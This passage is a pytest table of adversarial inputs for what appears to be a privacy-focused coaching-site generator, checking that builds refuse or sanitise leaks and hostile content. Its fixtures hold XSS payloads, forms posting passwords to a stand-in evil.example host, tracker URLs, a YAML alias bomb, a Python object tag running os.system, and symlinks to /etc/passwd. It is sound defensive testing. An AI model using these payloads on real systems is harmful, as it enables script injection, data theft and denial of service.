"""Adversarial inputs, one table: each case is an input someone could write and the outcome we promise.

The outcome is either *refused* (a clear error that names what is wrong, no
traceback, and nothing written where the case says) or *safe* (the build
succeeds and the output is checked for what must not be there). Cases are
grouped by the point of the privacy issue they cover.
"""

from __future__ import annotations

import gzip
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup

from coachbook.audit.normalise import normalise

from . import hostile_files
from .conftest import AS_OF, minimal_engagement, run_coachbook

#: Bare-bones client added by the cases that need an engagement of their own.
NEW = "ana-lima"


# --------------------------------------------------------------------------- outcomes


@dataclass(frozen=True)
class Refused:
    """The command fails with every `says` in its output, and nothing is written at `unwritten`."""

    says: tuple[str, ...]
    unwritten: tuple[str, ...] = ("site",)


@dataclass(frozen=True)
class Warned:
    """The command succeeds, with every `says` in its output (a warning the coach must see)."""

    says: tuple[str, ...]


@dataclass(frozen=True)
class Safe:
    """The command succeeds, and `check(firm)` finds nothing wrong with the output."""

    check: Callable[[Path], None]


@dataclass(frozen=True)
class Case:
    id: str
    arrange: Callable[[Path], None]
    command: tuple[str, ...]
    outcome: Refused | Safe | Warned
    env: dict[str, str] = field(default_factory=dict)


# --------------------------------------------------------------------------- arranging inputs


def append(relative: str, text: str) -> Callable[[Path], None]:
    def arrange(firm: Path) -> None:
        path = firm / relative
        path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")

    return arrange


def replace(relative: str, old: str, new: str) -> Callable[[Path], None]:
    def arrange(firm: Path) -> None:
        path = firm / relative
        text = path.read_text(encoding="utf-8")
        assert old in text, f"{old!r} not in {relative}"
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    return arrange


def write(relative: str, content: str | bytes) -> Callable[[Path], None]:
    def arrange(firm: Path) -> None:
        path = firm / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")

    return arrange


def new_client(**fields: object) -> Callable[[Path], None]:
    """Add `engagements/ana-lima.yml`, a minimal engagement with `fields`."""
    return write(f"engagements/{NEW}.yml", yaml.safe_dump(minimal_engagement(**fields), sort_keys=False))


def symlink(relative: str, target: str) -> Callable[[Path], None]:
    def arrange(firm: Path) -> None:
        (firm / relative).symlink_to(target)

    return arrange


def both(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def arrange(firm: Path) -> None:
        for step in steps:
            step(firm)

    return arrange


def build(client: str) -> tuple[str, ...]:
    return ("build", "--client", client, "--as-of", AS_OF)


CHECK = ("check",)
GUIDE = "content/stages/02-building-rapport.md"


# --------------------------------------------------------------------------- checking outputs


def site_files(firm: Path, client: str) -> dict[str, str]:
    """Every file of a client's site as raw text, `.gz` decompressed."""
    root = firm / "site" / "clients" / client
    assert root.is_dir(), f"no site at {root}"
    out = {}
    for path in root.rglob("*"):
        if path.is_file():
            raw = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
            out[path.relative_to(root).as_posix()] = raw.decode("utf-8", errors="replace")
    return out


def nowhere(client: str, *needles: str, raw: bool = False) -> Callable[[Path], None]:
    """None of `needles` appears in any file of the site, as raw bytes or (default) as normalised text."""

    def check(firm: Path) -> None:
        for name, text in site_files(firm, client).items():
            haystack = text if raw else normalise(text)
            for needle in needles:
                assert (needle if raw else normalise(needle)) not in haystack, f"{needle!r} found in {name}"

    return check


def in_page(client: str, page: str, *needles: str) -> Callable[[Path], None]:
    def check(firm: Path) -> None:
        text = site_files(firm, client)[page]
        for needle in needles:
            assert needle in text, f"{needle!r} not in {page}"

    return check


def no_elements(client: str, page: str, *tags: str) -> Callable[[Path], None]:
    """The page's own content (not the theme around it) has none of these elements."""

    def check(firm: Path) -> None:
        article = BeautifulSoup(site_files(firm, client)[page], "html.parser").find("article")
        assert article is not None, f"{page} has no <article>"
        for tag in tags:
            assert article.find(tag) is None, f"<{tag}> in the content of {page}"

    return check


def all_of(*checks: Callable[[Path], None]) -> Callable[[Path], None]:
    def check(firm: Path) -> None:
        for one in checks:
            one(firm)

    return check


def no_third_party_requests(client: str) -> Callable[[Path], None]:
    fetch = re.compile(r"""<(?:script|img|iframe|link)\b[^>]*(?:src|href)=["']?(?:https?:)?//""", re.IGNORECASE)

    def check(firm: Path) -> None:
        for name, text in site_files(firm, client).items():
            if name.endswith((".html", ".css")):
                assert not fetch.search(text), f"{name} loads from another origin"
                assert "fonts.googleapis" not in text and "googletagmanager" not in text, name

    return check


def image_without_metadata(client: str, relative: str, original: bytes) -> Callable[[Path], None]:
    """The published image shows the same picture as `original`, and carries none of its metadata."""

    def check(firm: Path) -> None:
        published = (firm / "site" / "clients" / client / relative).read_bytes()
        assert hostile_files.pixels(published) == hostile_files.pixels(original)
        for marker in (b"Exif", b"Kwame", b"GPS", b"xmpmeta", b"tEXt", b"zTXt", b"eXIf"):
            assert marker not in published, f"{marker!r} still in {relative}"

    return check


# --------------------------------------------------------------------------- the table

HOSTILE_NOTE = """\
Good session.
<script>alert('note')</script>
<img src=x onerror="alert('img')">
[click](javascript:alert('link'))
[data](data:text/html;base64,PHNjcmlwdD4=)
![pixel](https://tracker.example/pixel.gif)
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name=pw></form>
<!-- She mentioned the redundancy rumours in confidence. -->
"""

BILLION_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
    for i in range(8)
)

CASES = [
    # 1. Isolation and the leak audit: a planted leak anywhere fails the build and publishes nothing.
    Case(
        "guide-names-another-client",
        append(GUIDE, "\nAsk Dana Whitfield how she handled this.\n"),
        build("sofia-marquez"),
        Refused(("leak audit failed", "dana whitfield", "client.name"), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "guide-quotes-a-private-note",
        append(GUIDE, "\nDana has never mentioned that offer to me.\n"),
        build("dana-whitfield"),
        Refused(("leak audit failed", "private"), ("site/clients/dana-whitfield",)),
    ),
    Case(
        "guide-quotes-a-private-note-that-looks-like-markup",
        both(
            replace(
                "engagements/dana-whitfield.yml",
                "never mentioned that offer",
                "rated that offer <B+> and never raised it",
            ),
            append(GUIDE, "\nDana has rated that offer &lt;B+&gt; and never raised it to me.\n"),
        ),
        build("dana-whitfield"),
        Refused(("leak audit failed", "private"), ("site/clients/dana-whitfield",)),
    ),
    Case(
        "leak-hidden-in-an-html-comment",
        replace(
            "theme/main.html",
            "{% block extrahead %}",
            "{% block extrahead %}<!-- ask kwame.asante@ashgrovemutual.example for a reference -->",
        ),
        build("sofia-marquez"),
        Refused(("leak audit failed", "client.email"), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "another-client-in-a-guide-comment-is-stripped",
        append(GUIDE, "\n<!-- ask kwame.asante@ashgrovemutual.example for a reference -->\n"),
        build("sofia-marquez"),
        Safe(nowhere("sofia-marquez", "kwame.asante@ashgrovemutual.example", raw=True)),
    ),
    Case(
        "leak-hidden-in-an-attribute",
        append(GUIDE, '\n<span title="Kwame Asante">A story from another client.</span>\n'),
        build("sofia-marquez"),
        Refused(("leak audit failed", "kwame asante"), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "leak-in-a-theme-override",
        replace(
            "theme/main.html",
            "{% block extrahead %}",
            '{% block extrahead %}<meta name="author" content="Halden Logistics">',
        ),
        build("sofia-marquez"),
        Refused(("leak audit failed", "client.organisation"), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "leak-in-a-compressed-asset",
        write("content/assets/notes.txt.gz", gzip.compress(b"Dana has never mentioned that offer to me.")),
        build("sofia-marquez"),
        Refused(("leak audit failed", "assets/notes.txt.gz"), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "leak-behind-json-escapes",
        write("content/assets/data.json", '{"who": "\\u0044ana \\u0057hitfield"}'),
        build("sofia-marquez"),
        Refused(("leak audit failed", "assets/data.json"), ("site/clients/sofia-marquez",)),
    ),
    # Text a browser does not take for a tag, or that a tag holds beyond its name and known attributes.
    Case(
        "leak-after-a-less-than-sign-in-a-script",
        write("content/assets/tally.js", 'if (a<b) { show("Dana Whitfield"); } if (c>d) { hide(); }\n'),
        build("sofia-marquez"),
        Refused(("leak audit failed", "assets/tally.js"), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "leak-in-the-cdata-of-an-svg",
        write(
            "content/assets/badge.svg",
            '<svg xmlns="http://www.w3.org/2000/svg"><text><![CDATA[Dana Whitfield]]></text></svg>',
        ),
        build("sofia-marquez"),
        Refused(("leak audit failed", "assets/badge.svg"), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "leak-as-attribute-names",
        append(GUIDE, "\n<span Dana Whitfield>A story from another client.</span>\n"),
        build("sofia-marquez"),
        Refused(("leak audit failed", "dana whitfield"), ("site/clients/sofia-marquez",)),
    ),
    # 1b. Text that reads as a name to a person reads as one to the audit: invisible and look-alike characters.
    *(
        Case(
            f"guide-names-another-client-with-{name}",
            append(GUIDE, f"\nAsk {spelling} how she handled this.\n"),
            build("sofia-marquez"),
            Refused(("leak audit failed", "dana whitfield", "client.name"), ("site/clients/sofia-marquez",)),
        )
        for name, spelling in (
            ("a-zero-width-space", "Da\u200bna Whit\u200bfield"),
            ("a-zero-width-non-joiner", "Dana Whit\u200cfield"),
            ("a-soft-hyphen-entity", "Dana Whit&shy;field"),
            ("a-no-break-space-entity", "Dana&nbsp;Whitfield"),
            ("a-word-joiner-and-a-bidi-mark", "Dana\u2060 Whit\u200efield"),
            ("a-variation-selector", "Dana Whitfi\ufe0feld"),
            ("a-numeric-zero-width-entity", "Dana Whit&#x200B;field"),
            ("an-ideographic-space", "Dana\u3000Whitfield"),
            ("a-cyrillic-look-alike", "D\u0430na Whitfield"),
            ("full-width-letters", "Ｄａｎａ Whitfield"),
            ("an-empty-tag-inside", "Dana Whit<b></b>field"),
            ("a-span-inside", 'Dana Whit<span class="x">fi</span>eld'),
            (
                "two-spans-a-stylesheet-spaces-apart",
                '<span class="first">Dana</span><span class="last">Whitfield</span>',
            ),
        )
    ),
    *(
        Case(
            f"note-names-another-client-{name}",
            new_client(
                sessions=[{"date": "2026-02-02", "stage": "contracting", "focus": "Kick-off", "notes": f"Met {who}."}]
            ),
            build(NEW),
            Refused(("leak audit failed", "dana whitfield", "client.name"), (f"site/clients/{NEW}",)),
        )
        for name, who in (
            ("plainly", "Dana Whitfield"),
            ("with-a-no-break-space", "Dana&nbsp;Whitfield"),
            ("with-a-soft-hyphen-pasted-in", "Dana Whit\u00adfield"),
        )
    ),
    Case(
        "two-clients-of-one-organisation-share-its-name",
        new_client(client={"name": "Ana Lima", "role": "CTO", "organisation": "Halden Logistics"}),
        build(NEW),
        Safe(in_page(NEW, "agreement/index.html", "Halden Logistics")),
    ),
    Case(
        "another-client-in-a-script-escape",
        write("content/assets/extra.js", "const who = '\\u0044ana \\x57hitfield';\n"),
        build("sofia-marquez"),
        Refused(("leak audit failed", "assets/extra.js", "dana whitfield"), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "another-client-inside-a-base64-data-url",
        append(
            GUIDE,
            '\n<img alt="" src="data:image/svg+xml;base64,'
            + __import__("base64")
            .b64encode(b"<svg xmlns='http://www.w3.org/2000/svg'><text>Kwame Asante</text></svg>")
            .decode()
            + '">\n',
        ),
        build("sofia-marquez"),
        Refused(("leak audit failed", "kwame asante"), ("site/clients/sofia-marquez",)),
    ),
    # 2. Coach-only data: private, coach_only, draft and comments never reach the client's site.
    Case(
        "every-kind-of-held-back-text",
        new_client(
            goals=[],
            actions=[
                {"title": "Raise the board tension with the sponsor", "due": "2026-12-01", "coach_only": True},
                {"title": "Book the offsite venue", "due": "2026-12-02", "private": "She resents the offsite idea."},
            ],
            sessions=[
                {"date": "2026-02-02", "stage": "contracting", "focus": "Kick-off", "notes": HOSTILE_NOTE},
                {"date": "2026-02-16", "stage": "contracting", "focus": "Unfinished write-up", "draft": True},
            ],
            private="The sponsor thinks she will not last the year.",
        ),
        build(NEW),
        Safe(
            all_of(
                nowhere(
                    NEW,
                    "board tension",
                    "resents the offsite",
                    "redundancy rumours",
                    "Unfinished write-up",
                    "will not last the year",
                ),
                in_page(NEW, "actions/index.html", "Book the offsite venue"),
            )
        ),
    ),
    Case(
        "coach-view-asked-of-a-build",
        lambda firm: None,
        build("dana-whitfield"),
        Refused(("only for previews", "coachbook serve --client SLUG --coach-view"), ("site/clients/dana-whitfield",)),
        env={"COACHBOOK_COACH_VIEW": "1"},
    ),
    # 3. Safe rendering: values are escaped in every context, notes are sanitised, templates are inert.
    Case(
        "markup-in-a-client-name",
        new_client(client={"name": "Ana <script>alert('x')</script> \"O'Lima\"", "role": "CTO", "organisation": "A&B"}),
        build(NEW),
        Safe(
            all_of(
                nowhere(NEW, "<script>alert('x')", raw=True),
                in_page(NEW, "index.html", "<title>", "&lt;script&gt;alert("),
            )
        ),
    ),
    Case(
        "hostile-markdown-in-a-note",
        new_client(
            sessions=[{"date": "2026-02-02", "stage": "contracting", "focus": "Kick-off", "notes": HOSTILE_NOTE}]
        ),
        build(NEW),
        Safe(
            all_of(
                nowhere(
                    NEW,
                    "alert('note')",
                    "alert('img')",
                    "javascript:alert",
                    "data:text/html",
                    "tracker.example",
                    "evil.example",
                    raw=True,
                ),
                in_page(NEW, "sessions/index.html", "Good session."),
                no_elements(NEW, "sessions/index.html", "script", "iframe", "form", "img", "input"),
            )
        ),
    ),
    Case(
        "template-syntax-in-yaml-shows-literally",
        new_client(client={"name": "Ana {{ 7*7 }} {% raw %}", "role": "CTO", "organisation": "Acme"}),
        build(NEW),
        Safe(in_page(NEW, "agreement/index.html", "Ana {{ 7*7 }} {% raw %}")),
    ),
    Case(
        "guide-reaches-for-python-internals",
        append(GUIDE, "\n{{ coach.__class__.__mro__ }}\n"),
        CHECK,
        Refused((GUIDE, "only plain placeholders such as")),
    ),
    Case(
        "guide-includes-a-file",
        append(GUIDE, '\n{% include "../engagements/dana-whitfield.yml" %}\n'),
        CHECK,
        Refused((GUIDE, "template tag `include` is not allowed")),
    ),
    Case(
        "snippet-pulls-in-an-engagement",
        both(
            replace("mkdocs.yml", "markdown_extensions:\n", "markdown_extensions:\n  - pymdownx.snippets\n"),
            append(GUIDE, '\n--8<-- "../engagements/dana-whitfield.yml"\n'),
        ),
        build("sofia-marquez"),
        Refused(("stages/02-building-rapport.md", "could not be found"), ("site/clients/sofia-marquez",)),
    ),
    # 4. Safe input: bad names, links and YAML are refused before anything is built.
    Case(
        "slug-that-is-not-a-url",
        write("engagements/Dana Whitfield (old).yml", "{}"),
        CHECK,
        Refused(("cannot be used in a URL", "rename it to dana-whitfield-old.yml")),
    ),
    Case(
        "slug-that-is-a-reserved-name",
        write("engagements/assets.yml", "{}"),
        CHECK,
        Refused(("'assets' is a reserved name",)),
    ),
    Case(
        "slug-that-is-too-long",
        write(f"engagements/{'a' * 120}.yml", "{}"),
        CHECK,
        Refused(("characters long",)),
    ),
    Case(
        "two-files-for-one-slug",
        write("engagements/sofia-marquez.yaml", "{}"),
        CHECK,
        Refused(("sofia-marquez.yaml", "rename it to sofia-marquez.yml")),
    ),
    Case(
        "symlinked-engagement",
        symlink("engagements/mallory.yml", "/etc/passwd"),
        CHECK,
        Refused(("engagements/mallory.yml", "symbolic link")),
    ),
    Case(
        "symlinked-guide-pointing-at-an-engagement",
        symlink("content/stages/08-extra.md", "../../engagements/dana-whitfield.yml"),
        build("sofia-marquez"),
        Refused(("content/stages/08-extra.md", "symbolic link")),
    ),
    Case(
        "duplicate-keys",
        replace("engagements/sofia-marquez.yml", "start: 2026-11-16\n", "start: 2026-11-16\nstart: 2026-11-17\n"),
        CHECK,
        Refused(("engagements/sofia-marquez.yml", "duplicate key 'start'")),
    ),
    Case(
        "alias-bomb",
        write(f"engagements/{NEW}.yml", BILLION_LAUGHS),
        CHECK,
        Refused((f"engagements/{NEW}.yml", "alias")),
    ),
    Case(
        "huge-file",
        write(f"engagements/{NEW}.yml", "notes: |\n" + ("  " + "x" * 78 + "\n") * 20_000),
        CHECK,
        Refused((f"engagements/{NEW}.yml", "over the 1,000,000-byte limit")),
    ),
    Case(
        "python-object-tag",
        write(f"engagements/{NEW}.yml", '!!python/object/apply:os.system ["touch pwned"]\n'),
        CHECK,
        Refused((f"engagements/{NEW}.yml", "tag")),
    ),
    *(
        Case(
            f"{name}-in-a-{field.replace('.', '-').replace('[0]', '')}",
            new_client(**arranged),
            CHECK,
            Refused((f"{field}: contains {code}", hint)),
        )
        for name, field, arranged, code, hint in (
            (
                "right-to-left-override",
                "client.name",
                {"client": {"name": "Ana \u202eamiL", "role": "CTO", "organisation": "Acme"}},
                "U+202E (right-to-left override)",
                "display reversed",
            ),
            (
                "bidi-isolate",
                "client.organisation",
                {"client": {"name": "Ana Lima", "role": "CTO", "organisation": "Acme \u2067Corp"}},
                "U+2067",
                "display reversed",
            ),
            (
                "zero-width-space",
                "coach.name",
                {"coach": {"name": "Priya\u200b Raman"}},
                "U+200B (zero width space)",
                "retype the value",
            ),
            (
                "soft-hyphen",
                "goals[0].title",
                {
                    "goals": [
                        {
                            "id": "lead",
                            "title": "Lead the re\u00adstructure",
                            **dict.fromkeys(("specific", "measurable", "achievable", "relevant"), "Yes."),
                            "deadline": "2026-10-01",
                            "baseline": 1,
                            "target": 5,
                            "unit": "score",
                        }
                    ]
                },
                "U+00AD (soft hyphen)",
                "an invisible character",
            ),
            (
                "invisible-tag-character",
                "client.email",
                {
                    "client": {
                        "name": "Ana Lima",
                        "role": "CTO",
                        "organisation": "Acme",
                        "email": "ana\U000e0041@acme.example",
                    }
                },
                "U+E0041",
                "an invisible character",
            ),
            (
                "bidi-override-in-a-note",
                "sessions[0].notes",
                {
                    "sessions": [
                        {"date": "2026-02-02", "stage": "contracting", "focus": "Kick-off", "notes": "Ok \u202etxet"}
                    ]
                },
                "U+202E",
                "display reversed",
            ),
        )
    ),
    Case(
        "bidi-override-in-a-stage-title",
        replace("content/program.yml", "title: Contracting", 'title: "Contract\u202eing"'),
        CHECK,
        Refused(("content/program.yml", "title: contains U+202E", "display reversed")),
    ),
    Case(
        "bidi-override-in-a-guide",
        append(GUIDE, "\nYour next step: \u202eevomer\n"),
        CHECK,
        Refused((GUIDE, "contains U+202E (right-to-left override)", "display reversed")),
    ),
    Case(
        "bidi-override-in-a-file-name",
        write("engagements/ana-\u202elima.yml", "{}"),
        CHECK,
        Refused(("is not plain ascii",)),
    ),
    Case(
        "guessable-site-id",
        new_client(site={"id": "ana"}),
        CHECK,
        Refused(("site.id", "not an unguessable site id", "coachbook site-id")),
    ),
    Case(
        "two-clients-share-a-site-id",
        both(
            new_client(site={"id": "abcdefghijklmnopqrstuvwx"}),
            append("engagements/sofia-marquez.yml", "\nsite:\n  id: abcdefghijklmnopqrstuvwx\n"),
        ),
        CHECK,
        Refused(("site.id", "is already the address of")),
    ),
    # 5. No third parties: nothing on a client's page loads from another origin.
    Case(
        "guide-loads-a-remote-image",
        append(GUIDE, '\n<img src="https://tracker.example/open.gif" alt="">\n'),
        build("sofia-marquez"),
        Refused(("loads https://tracker.example/open.gif from another origin",), ("site/clients/sofia-marquez",)),
    ),
    *(
        Case(
            f"guide-loads-from-another-origin-through-{name}",
            append(GUIDE, "\n" + markup + "\n"),
            build("sofia-marquez"),
            Refused((f"{place} loads {url} from another origin",), ("site/clients/sofia-marquez",)),
        )
        for name, markup, place, url in (
            (
                "srcset",
                '<img alt="" src="ok.png" srcset="ok.png 1x, https://tracker.example/a.gif 2x">',
                "<img srcset>",
                "https://tracker.example/a.gif",
            ),
            (
                "a-data-url-with-commas-then-srcset",
                '<img alt="" srcset="data:image/gif;base64,R0lGOD,lh 1x, //tracker.example/b.gif 2x">',
                "<img srcset>",
                "//tracker.example/b.gif",
            ),
            (
                "a-poster",
                '<video poster="https://tracker.example/p.jpg"></video>',
                "<video poster>",
                "https://tracker.example/p.jpg",
            ),
            (
                "an-object",
                '<object data="https://tracker.example/o.svg"></object>',
                "<object data>",
                "https://tracker.example/o.svg",
            ),
            (
                "svg-xlink",
                '<svg><image xlink:href="https://tracker.example/i.png"/></svg>',
                "<image xlink:href>",
                "https://tracker.example/i.png",
            ),
            (
                "svg-use",
                '<svg><use href="https://tracker.example/s.svg#a"/></svg>',
                "<use href>",
                "https://tracker.example/s.svg#a",
            ),
            (
                "a-formaction",
                '<form><button formaction="https://evil.example/collect">Send</button></form>',
                "<button formaction>",
                "https://evil.example/collect",
            ),
            (
                "a-meta-refresh",
                '<meta http-equiv="refresh" content="1; URL=\'https://evil.example/\'">',
                "<meta http-equiv=refresh>",
                "https://evil.example/",
            ),
            (
                "an-inline-style",
                '<div style="background: url(&quot;https://tracker.example/bg.png&quot;)">x</div>',
                "<div style> url()",
                "https://tracker.example/bg.png",
            ),
            (
                "a-style-import-with-escapes",
                '<style>@import "ht\\74ps://fonts.example/a.css";</style>',
                "<style> url()",
                "https://fonts.example/a.css",
            ),
            (
                "a-newline-inside-the-scheme",
                '<img alt="" src="ht&#10;tps://tracker.example/n.gif">',
                "<img src>",
                "https://tracker.example/n.gif",
            ),
            (
                "a-backslashed-address",
                '<img alt="" src="/\\tracker.example/b.gif">',
                "<img src>",
                "/\\tracker.example/b.gif",
            ),
            ("a-base", '<base href="https://evil.example/">', "<base href>", "https://evil.example/"),
            (
                "a-ping",
                '<a href="#x" ping="https://tracker.example/ping">x</a>',
                "<a ping>",
                "https://tracker.example/ping",
            ),
        )
    ),
    Case(
        "stylesheet-in-content-loads-from-another-origin",
        write("content/assets/extra.css", "body { background: url( 'https://tracker.example/bg.png' ) }\n"),
        build("sofia-marquez"),
        Refused(
            ("assets/extra.css: stylesheet url() loads https://tracker.example/bg.png from another origin",),
            ("site/clients/sofia-marquez",),
        ),
    ),
    *(
        Case(
            f"guide-links-to-{name}",
            append(GUIDE, "\n" + markup + "\n"),
            CHECK,
            Refused((GUIDE, f"links to a {scheme}: address", "link only to http:, https:, mailto: and tel:")),
        )
        for name, markup, scheme in (
            ("a-local-file", "[the form](file:///etc/passwd)", "file"),
            ("a-windows-share", '<a href="file://fileserver/hr/dana.docx">HR file</a>', "file"),
            ("a-script", "[open](javascript:alert(document.cookie))", "javascript"),
            ("a-script-in-mixed-case", '<a href=" JaVaScRiPt:alert(1)">x</a>', "javascript"),
            ("another-scheme-by-reference", "[open][share]\n\n[share]: smb://fileserver/share", "smb"),
            ("an-autolink", "<vbscript:msgbox>", "vbscript"),
            ("a-script-with-a-character-reference", "[x](jav&#x61;script:alert(1))", "javascript"),
            ("a-script-with-a-tab-reference", '<a href="java&Tab;script:alert(1)">x</a>', "javascript"),
        )
    ),
    *(
        Case(
            f"built-page-links-to-{name}",
            write_or_append,
            build_of,
            Refused((f"points at {url!r}, which is not a web address",), (unwritten,)),
        )
        for name, write_or_append, build_of, url, unwritten in (
            (
                "a-local-file-from-the-theme",
                replace(
                    "theme/main.html",
                    "{% block extrahead %}",
                    '{% block extrahead %}<link rel="help" href="file:///etc/passwd">',
                ),
                build("sofia-marquez"),
                "file:///etc/passwd",
                "site/clients/sofia-marquez",
            ),
            (
                "a-data-page-from-a-guide",
                append(GUIDE, "\n[open](data:text/html,hello)\n"),
                build("sofia-marquez"),
                "data:text/html,hello",
                "site/clients/sofia-marquez",
            ),
            (
                "a-local-file-from-the-handbook-home",
                append("content/index.md", "\n[the form](file:///etc/passwd)\n"),
                ("build", "--as-of", AS_OF),
                "file:///etc/passwd",
                "site/handbook",
            ),
        )
    ),
    Case(
        "firm-turns-on-web-fonts-and-analytics",
        both(
            replace("mkdocs.yml", "  font: false\n", "  font:\n    text: Roboto\n"),
            append("mkdocs.yml", "  analytics:\n    provider: google\n    property: G-ABCDEF1234\n"),
        ),
        build("sofia-marquez"),
        Safe(all_of(no_third_party_requests("sofia-marquez"), nowhere("sofia-marquez", "G-ABCDEF1234", raw=True))),
    ),
    # 5b. Metadata: images are published without it; documents that carry it are reported, and audited.
    Case(
        "photo-with-a-location-and-an-author",
        both(
            write("content/assets/offsite.jpg", hostile_files.jpeg(comment="Kwame at the offsite")),
            append(GUIDE, "\n![The offsite](../assets/offsite.jpg)\n"),
        ),
        build("sofia-marquez"),
        Safe(image_without_metadata("sofia-marquez", "assets/offsite.jpg", hostile_files.jpeg())),
    ),
    Case(
        "audio-whose-tags-name-another-client-in-utf-16",
        write(
            "content/assets/welcome.mp3",
            b"ID3\x03\x00\x00\x00\x00\x00\x21TPE1\x00\x00\x00\x1b\x00\x00\x01\xff\xfe"
            + "Kwame Asante".encode("utf-16-le")
            + b"\x00\x00" * 8,
        ),
        build("sofia-marquez"),
        Refused(("assets/welcome.mp3: contains 'kwame asante'",), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "text-file-in-utf-16-names-another-client",
        write("content/assets/notes.txt", "\ufeffNotes from Kwame Asante".encode("utf-16-le")),
        build("sofia-marquez"),
        Refused(("assets/notes.txt: contains 'kwame asante'",), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "theme-image-with-metadata-is-stripped-too",
        write("theme/assets/images/team.jpg", hostile_files.jpeg()),
        build("sofia-marquez"),
        Safe(image_without_metadata("sofia-marquez", "assets/images/team.jpg", hostile_files.jpeg())),
    ),
    Case(
        "svg-in-content-names-another-client",
        write(
            "content/assets/team.svg",
            "<svg xmlns='http://www.w3.org/2000/svg'><title>Kwa&#x200B;me Asante</title></svg>",
        ),
        build("sofia-marquez"),
        Refused(("assets/team.svg: contains 'kwame asante'",), ("site/clients/sofia-marquez",)),
    ),
    *(
        Case(
            f"{kind}-with-metadata-is-stripped",
            write(f"content/assets/picture.{kind}", data),
            build("sofia-marquez"),
            Safe(image_without_metadata("sofia-marquez", f"assets/picture.{kind}", data)),
        )
        for kind, data in (
            ("png", hostile_files.png(compressed=True)),
            ("gif", hostile_files.gif()),
            ("webp", hostile_files.webp()),
        )
    ),
    *(
        Case(
            f"pdf-whose-author-is-another-client-{name}",
            write("content/assets/intake.pdf", data),
            build("sofia-marquez"),
            Refused(
                ("assets/intake.pdf: contains 'kwame asante' in its PDF Author metadata", "client.name"),
                ("site/clients/sofia-marquez",),
            ),
        )
        for name, data in (
            ("in-plain-text", hostile_files.pdf()),
            ("in-utf-16", hostile_files.pdf(utf16=True)),
            ("in-a-compressed-object-stream", hostile_files.pdf(compressed_info=True)),
        )
    ),
    Case(
        "word-document-whose-author-is-another-client",
        write("content/assets/notes.docx", hostile_files.docx()),
        build("sofia-marquez"),
        Refused(
            ("assets/notes.docx: contains 'kwame asante' in its core.xml dc:creator metadata",),
            ("site/clients/sofia-marquez",),
        ),
    ),
    Case(
        "word-document-body-names-another-client",
        write("content/assets/notes.docx", hostile_files.docx(creator="Coach", body="Talk to Kwame Asante first")),
        build("sofia-marquez"),
        Refused(("assets/notes.docx: contains 'kwame asante'",), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "check-names-a-documents-metadata",
        write("content/assets/intake.pdf", hostile_files.pdf(author="Amara Okafor")),
        CHECK,
        Warned(("content/assets/intake.pdf: PDF Author is 'Amara Okafor'", "document's properties")),
    ),
    # 6. Access control: password hashes never go where they could be published.
    Case(
        "password-file-inside-the-site",
        lambda firm: None,
        ("passwd", "dana-whitfield", "--htpasswd-dir", "site/private"),
        Refused(("everything under site/ is published",)),
    ),
    # 6a. Strict mode: `strict: true` in mkdocs.yml is as binding as --strict.
    Case(
        "strict-in-mkdocs-yml-fails-a-broken-link",
        both(
            replace(
                "mkdocs.yml",
                "site_name: Northlight Coaching handbook\n",
                "site_name: Northlight Coaching handbook\nstrict: true\n",
            ),
            append(GUIDE, "\nSee [the old form](old-form.md).\n"),
        ),
        build("sofia-marquez"),
        Refused(("old-form.md",), ("site/clients/sofia-marquez",)),
    ),
    Case(
        "strict-in-mkdocs-yml-fails-the-handbook-too",
        both(
            replace(
                "mkdocs.yml",
                "site_name: Northlight Coaching handbook\n",
                "site_name: Northlight Coaching handbook\nstrict: true\n",
            ),
            append(GUIDE, "\nSee [the old form](old-form.md).\n"),
        ),
        ("build", "--as-of", AS_OF),
        Refused(("old-form.md", "handbook"), ("site/handbook", "site/clients/sofia-marquez")),
    ),
    # 6b. The preview server: this computer only, unless the coach asks; never the coach view.
    *(
        Case(
            f"preview-on-the-network-{name}",
            lambda firm: None,
            ("serve", *args),
            Refused(says, ()),
        )
        for name, args, says in (
            ("without-expose", ("-a", "0.0.0.0:8765"), ("0.0.0.0:8765 can be reached", "--expose")),
            (
                "of-a-client-without-expose",
                ("--client", "dana-whitfield", "-a", "[::]:8765"),
                ("dana-whitfield's private site", "--expose"),
            ),
            (
                "of-the-coach-view-even-with-expose",
                ("--client", "dana-whitfield", "--coach-view", "--expose", "-a", "0.0.0.0:8765"),
                ("dana-whitfield's coach view shows coach-only material, so it is served on this computer only",),
            ),
            (
                "by-host-name",
                ("--client", "dana-whitfield", "--sponsor", "-a", "coachbook-no-such-host.invalid:8765"),
                ("dana-whitfield's sponsor site", "--expose"),
            ),
        )
    ),
    # Another client's held-back sentence pasted into the owner's own shared notes: the notes may not vouch for it.
    Case(
        "another-clients-private-sentence-pasted-into-shared-notes",
        replace(
            "engagements/sofia-marquez.yml",
            "      Thank you for a frank first hour, Sofia. Here is what I took away.\n",
            "      Thank you for a frank first hour, Sofia. Here is what I took away.\n\n"
            '      Two direct reports independently used the phrase "let me take it away".\n',
        ),
        build("sofia-marquez"),
        Refused(("two direct reports independently used the phrase", "kwame-asante"), ("site/clients/sofia-marquez",)),
    ),
    # Another client named however the coach typed it: the order of the names, a title, punctuation, an accent,
    # a look-alike letter, a phone number written another way.
    *(
        Case(
            f"another-client-spelled-{name}",
            replace(
